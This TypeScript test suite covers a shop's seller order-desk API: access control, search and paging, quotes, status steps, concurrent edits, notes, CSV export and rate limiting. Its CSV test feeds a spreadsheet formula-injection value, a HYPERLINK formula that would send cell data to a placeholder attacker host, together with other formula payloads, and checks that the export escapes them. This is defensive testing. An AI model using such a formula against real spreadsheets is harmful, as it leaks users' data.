import { afterAll, describe, expect, test } from 'vitest';
import { buildApp } from '../../serve/app.ts';
import { itemForSale, register } from '../../testing/customer.ts';
import { type Cookies, newEnquiry, openDesk, quoteFor, registerSeller } from '../../testing/seller.ts';
import type { DeskOrder } from './contract.ts';

const { shop, customer, seller, other, get, post, atDesk } = await openDesk();
afterAll(() => shop.close());

const step = (order: DeskOrder, status: string, more: object = {}, cookies: Cookies = seller) =>
  post(`/api/desk/orders/${order.orderId}/status`, { version: order.version, status, ...more }, cookies);

describe('each call refuses everybody except sellers', () => {
  const calls: [method: 'GET' | 'POST' | 'PUT' | 'DELETE', url: string, sellerGets: number][] = [
    ['GET', '/api/desk/orders', 200],
    ['GET', '/api/desk/orders.csv', 200],
    ['GET', '/api/desk/orders/none', 404],
    ['GET', '/api/desk/arrivals?since=2026-11-22T00:00:00Z', 200],
    ['GET', '/api/desk/orders/none/related', 404],
    ['GET', '/api/desk/day', 200],
    ['GET', '/api/desk/events?seconds=0', 200],
    ...(['quote', 'status', 'line', 'part', 'reopen', 'undo', 'tracking'] as const).flatMap(
      (name): ['POST', string, number][] => [
        ['POST', `/api/desk/orders/none/${name}`, 400],
        ['POST', `/api/desk/orders/none/${name}/preview`, 400],
      ],
    ),
    ['POST', '/api/desk/orders/none/notes', 400],
    ['GET', '/api/desk/orders/none/messages', 404],
    ['POST', '/api/desk/orders/none/messages', 400],
    ['PUT', '/api/desk/orders/none/messages/read', 400],
    ['GET', '/api/desk/orders/none/pictures/none', 404],
    ['GET', '/api/desk/orders/none/returns', 404],
    ['POST', '/api/desk/orders/none/returns/none/answer', 400],
    ['POST', '/api/desk/orders/none/invoice', 404],
    ['GET', '/api/desk/orders/none/invoices/none', 404],
    ['GET', '/api/desk/orders/none/invoices/none/e-invoice', 404],
    ...(['', '/none/received', '/none/not-received'] as const).map((name): ['POST', string, number] => [
      'POST',
      `/api/desk/orders/none/payments${name}`,
      400,
    ]),
    ...(['', '/none/made', '/none/send', '/none/drop'] as const).map((name): ['POST', string, number] => [
      'POST',
      `/api/desk/orders/none/refunds${name}`,
      400,
    ]),
    ['POST', '/api/desk/orders/none/assignee', 400],
    ['POST', '/api/desk/bulk', 400],
    ['GET', '/api/desk/messages', 200],
    ['GET', '/api/desk/night', 200],
    ['PUT', '/api/desk/messages/none', 404],
    ['GET', '/api/desk/doubts', 200],
    ['DELETE', '/api/desk/doubts/none', 404],
    ['GET', '/api/desk/searches', 200],
    ['GET', '/api/desk/synonyms', 200],
    ['GET', '/api/desk/synonyms.csv', 200],
    ['GET', '/api/desk/synonyms/check?phrase=packing&meaning=gasket', 200],
    ['POST', '/api/desk/synonyms', 400],
    ['PUT', '/api/desk/synonyms/none', 400],
    ['DELETE', '/api/desk/synonyms/none', 404],
    ['GET', '/api/desk/templates', 200],
    ['POST', '/api/desk/templates', 400],
    ['PUT', '/api/desk/templates/none', 400],
    ['DELETE', '/api/desk/templates/none?version=1', 404],
    ['POST', '/api/desk/synonyms/import', 400],
    ['POST', '/api/desk/synonyms/import/preview', 400],
  ];
  test('no call of the desk is missing from this list', async () => {
    const found: string[] = [];
    const app = await buildApp(shop.app.shop, {}, async (extended) => {
      extended.addHook('onRoute', ({ method, url }) => {
        if (/desk/.test(url) && method !== 'HEAD') found.push(`${method} ${url.replaceAll(/:\w+/g, 'none')}`);
      });
    });
    await app.close();
    expect(found.sort()).toEqual(calls.map(([method, url]) => `${method} ${url.replace(/\?.*/, '')}`).sort());
  });
  test.each(['/desk', '/hi/desk', '/ta/desk/orders/x?y=1', '/desk/messages'])(
    'the page %s redirects guests to login',
    async (url) => {
      const answer = await shop.app.inject(url);
      const language = /^\/(?:hi|ta)/.exec(url)?.[0] ?? '';
      expect([answer.statusCode, answer.headers.location]).toEqual([
        302,
        `${language}/login?next=${encodeURIComponent(url)}`,
      ]);
      expect((await get(url, customer)).statusCode).not.toBe(302);
    },
  );
  test.each(['/desks', '/product/desk', '/xx/desk'])('%s is not a page of the desk', async (url) => {
    expect((await shop.app.inject(url)).statusCode).toBe(404);
  });
  test.each(calls)('%s %s', async (method, url, sellerGets) => {
    const ask = (cookies: Cookies) =>
      shop.app.inject({ method, url, cookies, ...(method === 'GET' ? {} : { payload: {} }) });
    const [nobody, asCustomer, asSeller] = [await ask({}), await ask(customer), await ask(seller)];
    expect([nobody.statusCode, nobody.json().error]).toEqual([401, 'login_required']);
    expect([asCustomer.statusCode, asCustomer.json()]).toEqual([
      403,
      { error: 'sellers_only', message: expect.any(String) },
    ]);
    expect(asSeller.statusCode).toBe(sellerGets);
  });
  test('a former seller is refused at once', async () => {
    const cookies = await registerSeller(shop, 'former@example.com');
    const user = await shop.store.users.byEmail('former@example.com');
    const role = async () => (await get('/api/auth/me', cookies)).json().user.role;
    expect([(await get('/api/desk/orders', cookies)).statusCode, await role()]).toEqual([200, 'seller']);
    await shop.store.users.setRole(user?.id ?? '', 'customer');
    expect([(await get('/api/desk/orders', cookies)).statusCode, await role()]).toEqual([403, 'customer']);
  });
});

describe('the list', () => {
  test('finds orders by number, name, e-mail, phone and part number, in any status, and counts them', async () => {
    const card = itemForSale(shop, 3);
    const contactInfo = { email: 'finder@example.org', phone: '+91 99887 76655' };
    const shippingAddress = {
      ...{
        firstName: 'Žofia',
        lastName: 'कुमार',
        address: 'x',
        city: 'x',
        state: 'x',
        zipCode: '560001',
        country: 'India',
      },
    };
    const { orderId, orderNumber } = await newEnquiry(shop, customer, { contactInfo, shippingAddress }, card);
    const written = `${card.partNumber.slice(0, 3)}-${card.partNumber.slice(3)}`.toLowerCase();
    for (const q of [
      orderNumber,
      orderNumber.slice(-5),
      'žofia',
      'कुमार',
      'FINDER@',
      '9988776655',
      card.partNumber,
      written,
    ]) {
      const { data, counts, total } = (await get(`/api/desk/orders?q=${encodeURIComponent(q)}`)).json();
      expect(
        data.map((order: DeskOrder) => order.orderId),
        q,
      ).toContain(orderId);
      expect(total).toBe(Object.values<number>(counts).reduce((sum, count) => sum + count, 0));
    }
    const none = (await get('/api/desk/orders?q=nobody-has-this')).json();
    expect([none.data, none.total, none.pages]).toEqual([[], 0, 1]);
  });

  test('has pages of 25 by stage, newest first, with each order once', async () => {
    const buyer = await register(shop, 'many@example.com');
    const contactInfo = { email: 'many@example.com', phone: '9876543210' };
    const made: string[] = [];
    for (let n = 0; n < 27; n++) made.push((await newEnquiry(shop, buyer, { contactInfo })).orderId);
    const page = async (number: number, more = '') =>
      (await get(`/api/desk/orders?q=many@example.com&page=${number}${more}`)).json();
    const [first, second, beyond] = [await page(1), await page(2), await page(3)];
    expect([first.total, first.pages, first.data.length, second.data.length, beyond.data]).toEqual([27, 2, 25, 2, []]);
    const seen = [...first.data, ...second.data].map((order: DeskOrder) => order.orderId);
    expect(new Set(seen)).toEqual(new Set(made));
    const times = first.data.map((order: DeskOrder) => order.createdAt);
    expect(times).toEqual(times.toSorted().reverse());
    await step(await atDesk(made[0] as string), 'cancelled');
    const cancelled = await page(1, '&stage=cancelled');
    expect([cancelled.total, cancelled.data.length, cancelled.counts.cancelled, cancelled.counts.to_answer]).toEqual([
      1, 1, 1, 26,
    ]);
  });

  test.each(['stage=lost', 'stage=pending', 'page=0', 'page=x', `q=${'x'.repeat(201)}`])(
    '%s is refused',
    async (query) => {
      expect((await get(`/api/desk/orders?${query}`)).statusCode).toBe(400);
    },
  );
});

describe('a quote', () => {
  test('is visible only to its customer, with prices, availability and totals', async () => {
    const [first, second] = [itemForSale(shop), itemForSale(shop, 1)];
    const { orderId } = await newEnquiry(shop, customer, {}, first, second);
    const order = await atDesk(orderId);
    expect([order.version, order.quote, order.quotedAt, order.events]).toEqual([1, null, null, []]);
    const answer = await post(`/api/desk/orders/${orderId}/quote`, {
      version: 1,
      lines: [
        { lineId: order.items[0]?.lineId, unitPrice: 100.5, availability: 'to_order', days: 4 },
        { lineId: order.items[1]?.lineId, unitPrice: 999, availability: 'unavailable', days: 7 },
      ],
      shipping: 50,
      message: 'The second one is\r\n\r\nout of production.\u202e',
    });
    expect(answer.statusCode).toBe(200);
    const totals = { subtotal: 201, shipping: 50, tax: 16.08, total: 267.08 };
    expect(answer.json().data).toMatchObject({ version: 2, totals, total: 267.08 });
    expect(answer.json().data.events).toMatchObject([{ kind: 'quote', total: 267.08, by: 'seller@example.com' }]);
    const seen = (await get(`/api/orders/${orderId}`, customer)).json().data;
    const of = order.items.map(({ lineId }) => lineId);
    expect(seen.quote).toEqual({
      message: 'The second one is\n\nout of production.',
      lines: [
        {
          lineId: of[0],
          itemId: first.id,
          unitPrice: 100.5,
          totalPrice: 201,
          availability: 'to_order',
          days: 4,
          accepted: null,
        },
        {
          lineId: of[1],
          itemId: second.id,
          unitPrice: 999,
          totalPrice: 0,
          availability: 'unavailable',
          days: null,
          accepted: null,
        },
      ],
      validUntil: expect.any(String),
    });
    expect(seen).toMatchObject({ totals, quotedAt: expect.any(String) });
    const listed = (await get('/api/user/orders', customer)).json().data;
    expect(listed[0]).toMatchObject({ orderId, total: 267.08, quotedAt: seen.quotedAt });
    expect((await get(`/api/orders/${orderId}`, other)).statusCode).toBe(404);
    // A later quote replaces it.
    await post(`/api/desk/orders/${orderId}/quote`, quoteFor(await atDesk(orderId), 10));
    expect((await get(`/api/orders/${orderId}`, customer)).json().data.totals.subtotal).toBe(40);
  });

  test.each([
    ['no lines', { lines: [] }],
    ['a line of another order', { lines: [{ lineId: 'x', unitPrice: 1, availability: 'available' }] }],
    ['a negative price', { price: -1 }],
    ['no price for a line that is not unavailable', { price: 0 }],
    ['a price of a tenth of a paisa', { price: 1.001 }],
    ['a price beyond all sense', { price: 1e9 }],
    ['negative shipping', { shipping: -1 }],
    ['a message of 2001 letters', { message: 'x'.repeat(2001) }],
    ['no version', { version: undefined }],
    ['days without end', { days: 366 }],
  ])(
    'with %s is refused and changes nothing',
    async (_name, { price = 5, days = null, ...spoilt }: Record<string, unknown>) => {
      const { orderId } = await newEnquiry(shop, customer);
      const order = await atDesk(orderId);
      const lines = order.items.map(({ lineId }) => ({ lineId, unitPrice: price, availability: 'to_order', days }));
      const body = { ...quoteFor(order, 5), lines, ...spoilt };
      expect((await post(`/api/desk/orders/${orderId}/quote`, body)).statusCode).toBe(400);
      expect(await atDesk(orderId)).toEqual(order);
    },
  );

  test('naming a line twice and leaving one out is refused', async () => {
    const { orderId } = await newEnquiry(shop, customer, {}, itemForSale(shop), itemForSale(shop, 1));
    const body = quoteFor(await atDesk(orderId), 5);
    body.lines[1] = body.lines[0] as never;
    expect((await post(`/api/desk/orders/${orderId}/quote`, body)).json().error).toBe('wrong_lines');
  });
});

describe('the status', () => {
  test('can go through all steps, each with its time and author, and a tracking number when shipping', async () => {
    const { orderId } = await newEnquiry(shop, customer);
    const steps = ['confirmed', 'processing', 'shipped', 'delivered', 'completed'];
    for (const status of steps) {
      const more = status === 'shipped' ? { carrier: 'Delhivery', trackingNumber: ' DL 123\r\n456 ' } : {};
      expect((await step(await atDesk(orderId), status, more, other)).statusCode).toBe(200);
    }
    const order = await atDesk(orderId);
    expect(order).toMatchObject({
      status: 'completed',
      carrier: 'Delhivery',
      trackingNumber: 'DL 123 456',
      version: 6,
    });
    expect(order.events.map((event) => event.status).reverse()).toEqual(steps);
    expect(order.events.every((event) => event.by === 'other@example.com' && event.at.endsWith('Z'))).toBe(true);
    const seen = (await get(`/api/orders/${orderId}`, customer)).json().data;
    expect(seen).toMatchObject({ status: 'completed', carrier: 'Delhivery', trackingNumber: 'DL 123 456' });
  });

  test('allows only sensible steps', async () => {
    const { orderId } = await newEnquiry(shop, customer);
    for (const status of ['pending', 'shipped', 'delivered', 'completed', 'processing']) {
      const answer = await step(await atDesk(orderId), status);
      expect([answer.statusCode, answer.json().error]).toEqual([422, 'step_refused']);
    }
    await step(await atDesk(orderId), 'cancelled');
    const cancelled = await atDesk(orderId);
    expect((await step(cancelled, 'confirmed')).statusCode).toBe(422);
    expect((await post(`/api/desk/orders/${orderId}/quote`, quoteFor(cancelled, 5))).statusCode).toBe(422);
    expect((await atDesk(orderId)).version).toBe(2);
  });

  test('a tracking number can be corrected while the parcel is in transit, not before', async () => {
    const { orderId } = await newEnquiry(shop, customer);
    const track = async (trackingNumber: string) =>
      post(`/api/desk/orders/${orderId}/tracking`, { version: (await atDesk(orderId)).version, trackingNumber });
    expect((await track('TOO-EARLY')).statusCode).toBe(422);
    for (const status of ['confirmed', 'processing', 'shipped']) await step(await atDesk(orderId), status);
    expect((await track('RIGHT-1')).json().data.trackingNumber).toBe('RIGHT-1');
    expect((await get('/api/user/orders', customer)).json().data[0].trackingNumber).toBe('RIGHT-1');
  });
});

describe('two sellers at once', () => {
  test('the second gets the current order, overwrites nothing, and can then save', async () => {
    const { orderId } = await newEnquiry(shop, customer);
    const seen = await atDesk(orderId);
    await step(seen, 'confirmed', {}, other);
    const late = quoteFor(seen, 77);
    const answer = await post(`/api/desk/orders/${orderId}/quote`, late);
    expect([answer.statusCode, answer.json().error]).toEqual([409, 'changed']);
    const fresh: DeskOrder = answer.json().data;
    expect(fresh).toMatchObject({ status: 'confirmed', version: 2, quote: null });
    expect(fresh.events[0]).toMatchObject({ kind: 'status', status: 'confirmed', by: 'other@example.com' });
    const again = await post(`/api/desk/orders/${orderId}/quote`, { ...late, version: fresh.version });
    expect(again.json().data).toMatchObject({ status: 'confirmed', version: 3, quote: { lines: [{ unitPrice: 77 }] } });
  });

  test('of ten simultaneous quotes, one is stored', async () => {
    const { orderId } = await newEnquiry(shop, customer);
    const seen = await atDesk(orderId);
    const answers = await Promise.all(
      Array.from({ length: 10 }, (_, n) => post(`/api/desk/orders/${orderId}/quote`, quoteFor(seen, n + 1))),
    );
    expect(answers.map((answer) => answer.statusCode).sort()).toEqual([200, ...Array(9).fill(409)]);
    expect((await atDesk(orderId)).events).toHaveLength(1);
  });

  test('the notes of both are kept, and no customer sees them', async () => {
    const { orderId } = await newEnquiry(shop, customer);
    await post(`/api/desk/orders/${orderId}/notes`, { text: 'Wants it\nby Friday' });
    const answer = await post(`/api/desk/orders/${orderId}/notes`, { text: 'Called him' }, other);
    expect(answer.json().data).toMatchObject({ version: 1 });
    expect(answer.json().data.events.map((event: { text: string }) => event.text)).toEqual([
      'Called him',
      'Wants it\nby Friday',
    ]);
    for (const url of [`/api/orders/${orderId}`, '/api/user/orders'])
      expect((await get(url, customer)).body).not.toMatch(/Friday|Called/);
    for (const text of ['', '  \n ', 'x'.repeat(2001)])
      expect((await post(`/api/desk/orders/${orderId}/notes`, { text })).statusCode).toBe(400);
  });
});

describe('the table', () => {
  test('has a row for each line, is safe in spreadsheets, and applies the filter', async () => {
    const buyer = await register(shop, 'table@example.com');
    const contactInfo = { email: 'table@example.com', phone: '+91 98765 43210' };
    const shippingAddress = {
      firstName: '=HYPERLINK("https://evil.example?x="&A1)',
      lastName: 'Rao, "the buyer"',
      address: '@SUM(A1)',
      city: 'चेन्नई',
      state: '-1',
      zipCode: '600001',
      country: 'India',
    };
    const cards = [itemForSale(shop), itemForSale(shop, 1)];
    const { orderId, orderNumber } = await newEnquiry(
      shop,
      buyer,
      { contactInfo, shippingAddress, note: '=1+1' },
      ...cards,
    );
    await post(`/api/desk/orders/${orderId}/quote`, quoteFor(await atDesk(orderId), 12.5, { shipping: 3 }));
    const answer = await get('/api/desk/orders.csv?q=table@example.com&lang=hi');
    expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(answer.headers['content-disposition']).toMatch(/^attachment; filename="enquiries-\d{4}-\d\d-\d\d\.csv"$/);
    expect(answer.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const lines = answer.body.slice(1).split('\r\n');
    expect([lines.length, lines.at(-1)]).toEqual([4, '']);
    expect(lines[0]).toContain(shop.app.shop.texts('hi')('part.number'));
    for (const [index, card] of cards.entries()) {
      const line = lines[index + 1] ?? '';
      expect(line.startsWith(`${orderNumber},`)).toBe(true);
      expect(line).toContain(
        `"'=HYPERLINK(""https://evil.example?x=""&A1)","Rao, ""the buyer""",table@example.com,"'+91 98765 43210","'@SUM(A1)",चेन्नई,"'-1",600001`,
      );
      expect(line).toContain(`${card.partNumber},`);
      expect(line).toContain(',2,');
      expect(line).toContain(',12.5,');
      // Sums stand on the first row only, so that a column of them can be added up.
      expect(line).toMatch(index === 0 ? /,50,3,4,57,,,,,,,"'=1\+1"$/ : /,,,,,,,,,,,"'=1\+1"$/);
    }
    expect((await get('/api/desk/orders.csv?q=table@example.com&stage=cancelled')).body.split('\r\n')).toHaveLength(2);
  });
});

test('a seller has two tables in work at once, and is told when to come back for another one', async () => {
  const answers = await Promise.all(Array.from({ length: 3 }, () => get('/api/desk/orders.csv')));
  expect(answers.map(({ statusCode }) => statusCode).sort()).toEqual([200, 200, 429]);
  const refused = answers.find(({ statusCode }) => statusCode === 429);
  expect([refused?.json().error, refused?.headers['retry-after']]).toEqual(['too_many', '5']);
  expect((await get('/api/desk/orders.csv')).statusCode).toBe(200);
});
